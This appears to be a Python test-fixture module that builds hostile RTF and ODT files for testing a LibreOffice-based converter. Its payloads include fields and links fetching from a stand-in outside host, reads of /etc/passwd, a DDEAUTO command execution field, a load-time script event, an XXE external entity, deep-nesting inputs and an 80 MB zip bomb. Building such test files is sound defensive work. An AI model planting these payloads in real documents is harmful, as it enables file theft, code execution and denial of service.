"""Hostile files of old Office programs, which go through LibreOffice: what would call home, nest or lie."""

from __future__ import annotations

from tests.hostile.archives import Member, raw, zipped
from tests.hostile.parts import Cost, Hostile, Recipes

_OUT = "http://203.0.113.7/x"
_MIME = b"application/vnd.oasis.opendocument.text"
_HEAD = (
    '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
    ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"'
    ' xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"'
    ' xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" office:version="1.2">'
)


def files() -> list[Hostile]:
    """Return every hostile file of old Office programs."""
    recipes = Recipes("office", ".rtf")
    for name, inside in {
        "picture": rf'{{\field{{\*\fldinst INCLUDEPICTURE "{_OUT}.png" \\d}}{{\fldrslt a}}}}',
        "text": rf'{{\field{{\*\fldinst INCLUDETEXT "{_OUT}.rtf"}}{{\fldrslt a}}}}',
        "file": r'{\field{\*\fldinst INCLUDETEXT "/etc/passwd"}{\fldrslt a}}',
        "template": rf"{{\*\template {_OUT}.dot}}",
        "link": rf'{{\field{{\*\fldinst HYPERLINK "{_OUT}"}}{{\fldrslt a}}}}',
        "dde": r'{\field{\*\fldinst DDEAUTO cmd "/k calc"}{\fldrslt a}}',
        "object": r"{\object\objautlink\objupdate{\*\objclass htmlfile}{\*\objdata " + "01050000" * 50 + "}}",
        "deep": "{" * 5000 + "a" + "}" * 5000,
        "open": "{" * 500,
        "numbers": r"\fs99999999999999999999 \li-99999999999 a",
        "characters": r"\'0e\'zz\u99999999?\uc99999 a",
        "picture-lie": r"{\pict\pngblip\picw99999999\pich99999999 89504e470d0a}",
    }.items():
        recipes.add(f"rtf-{name}", rf"{{\rtf1\ansi Some words. {inside}\par}}".encode(), Cost.HEAVY)
    for name, inside in {
        "picture": f'<text:p><draw:frame><draw:image xlink:href="{_OUT}.png"/></draw:frame></text:p>',
        "section": f'<text:section text:name="a"><text:section-source xlink:href="{_OUT}.odt"/></text:section>',
        "file": '<text:section text:name="a"><text:section-source xlink:href="file:///etc/passwd"/></text:section>',
        "object": f'<text:p><draw:frame><draw:object xlink:href="{_OUT}"/></draw:frame></text:p>',
        "deep": "<text:list><text:list-item>" * 3000 + "</text:list-item></text:list>" * 3000,
    }.items():
        text = f"{_HEAD}<office:body><office:text><text:p>Some words.</text:p>{inside}</office:text></office:body>"
        recipes.add(f"odt-{name}", _odt(f"{text}</office:document-content>"), Cost.HEAVY, ".odt")
    event = f'<script:event-listener script:event-name="dom:load" xlink:href="{_OUT}" script:language="ooo:script"/>'
    script = f"{_HEAD}<office:scripts><office:event-listeners>{event}</office:event-listeners></office:scripts>"
    body = "<office:body><office:text/></office:body></office:document-content>"
    recipes.add("odt-script", _odt(script + body), Cost.HEAVY, ".odt")
    entity = f'<!DOCTYPE x [<!ENTITY a SYSTEM "{_OUT}">]>'
    recipes.add("odt-entity", _odt(f"{entity}{_HEAD}{body}"), Cost.HEAVY, ".odt")
    recipes.add("odt-empty", raw([Member(b"mimetype", _MIME, method=0)]), Cost.HEAVY, ".odt")
    bomb = zipped({"mimetype": _MIME, "content.xml": bytes(80 * 2**20)})
    recipes.add("odt-bomb", bomb, Cost.HEAVY, ".odt")
    return recipes.files


def _odt(content: str) -> bytes:
    types = '<manifest:file-entry manifest:full-path="{}" manifest:media-type="{}"/>'
    entries = types.format("/", _MIME.decode()) + types.format("content.xml", "text/xml")
    manifest = f'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">{entries}'
    parts = {"content.xml": content.encode(), "META-INF/manifest.xml": f"{manifest}</manifest:manifest>".encode()}
    return raw([Member(b"mimetype", _MIME, method=0), *(Member(name.encode(), data) for name, data in parts.items())])
